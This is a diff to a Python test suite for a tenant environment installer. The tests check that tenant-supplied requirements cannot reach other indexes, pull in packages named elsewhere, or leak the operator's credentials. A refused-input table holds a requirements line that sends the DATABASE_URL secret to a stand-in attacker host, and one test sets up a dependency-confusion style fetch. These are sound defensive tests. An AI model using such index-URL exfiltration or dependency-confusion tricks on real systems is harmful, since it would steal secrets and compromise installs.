@@ -13,6 +13,7 @@ from flux.errors import OperatorError
 from flux.supervisor.environment_build import InstallFailedError
 from flux.supervisor.environment_installer import NotForTenantsError
 from flux.supervisor.environments import Environments
+from tests.wheels import write_wheel
 
 REFUSED = {
     "--index-url https://evil.example/${DATABASE_URL}/simple\nplain\n": "variable",
@@ -39,10 +40,11 @@ def project(tmp_path: Path) -> Path:
 
 @attrs.define
 class Index:
-    """A server that has no packages, and remembers what it was sent."""
+    """A server that has no packages, or says that it has this one, and remembers what it was sent."""
 
     port: int
     sent: list[str] = attrs.field(factory=list)
+    offered: Path | None = None
 
 
 @pytest.fixture
@@ -50,7 +52,15 @@ def index() -> Iterator[Index]:
     class Handler(BaseHTTPRequestHandler):
         def do_GET(self) -> None:
             made.sent.append(f"{self.path} {self.headers}")
-            self.send_error(404)
+            if made.offered is None:
+                self.send_error(404)
+                return
+            page = f'<a href="{made.offered.as_uri()}">{made.offered.name}</a>'.encode()
+            self.send_response(200)
+            self.send_header("content-type", "text/html")
+            self.send_header("content-length", str(len(page)))
+            self.end_headers()
+            self.wfile.write(page)
 
         def log_message(self, format: str, *args: object) -> None:
             """Say nothing."""
@@ -80,6 +90,31 @@ async def test_a_tenant_s_pyproject_toml_may_not_either(project: Path) -> None:
         await Environments(project / "environments", for_tenant=True).provide(project)
 
 
+@pytest.mark.parametrize("installer", ["pip", "uv"])
+async def test_a_tenant_s_own_wheel_is_installed_and_none_that_an_index_or_a_package_names_elsewhere(
+    installer: str, project: Path, index: Index, tmp_path: Path
+) -> None:
+    write_wheel(tmp_path / "beta", "private", {"private.py": ""})
+    index.offered = next((tmp_path / "beta").iterdir())
+    write_wheel(project / "wheels", "own", {"own.py": ""})
+    write_wheel(
+        project / "wheels", "bridge", {"bridge.py": ""}, requires=[f"private @ {index.offered.as_uri()}"]
+    )
+    own, bridge = (next((project / "wheels").glob(f"{name}-*")).name for name in ("own", "bridge"))
+    environments = Environments(project / "environments", for_tenant=True)
+    texts = {
+        "pip": f"--index-url http://127.0.0.1:{index.port}/simple\nprivate\n",
+        "uv": f"--no-index\n./wheels/{bridge}\n",
+    }
+    (project / "requirements.txt").write_text(texts[installer])
+    with pytest.raises(InstallFailedError, match="Permission denied"):
+        await environments.provide(project, installer=installer)
+    assert any("/simple/private/" in sent for sent in index.sent) == (installer == "pip")
+    (project / "requirements.txt").write_text(f"--no-index\n./wheels/{own}\n")
+    found = await environments.provide(project, installer=installer)
+    assert found is not None and found.packages == (("own", "1.0"),)
+
+
 async def test_an_index_that_a_tenant_names_gets_no_password_of_the_operator_s_nor_is_theirs_asked(
     project: Path, index: Index, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
@@ -94,6 +129,7 @@ async def test_an_index_that_a_tenant_names_gets_no_password_of_the_operator_s_n
     monkeypatch.setenv("HOME", str(home))
     monkeypatch.setenv("XDG_CONFIG_HOME", str(home / ".config"))
     monkeypatch.setenv("NETRC", str(home / ".netrc"))
+    monkeypatch.setenv("HTTPS_PROXY", "http://me:swordfish@127.0.0.1:9")
     for name in ("PIP_EXTRA_INDEX_URL", "UV_EXTRA_INDEX_URL", "PIP_FIND_LINKS", "UV_INDEX"):
         monkeypatch.setenv(name, theirs)
     for name in ("PIP_RETRIES", "UV_HTTP_RETRIES"):
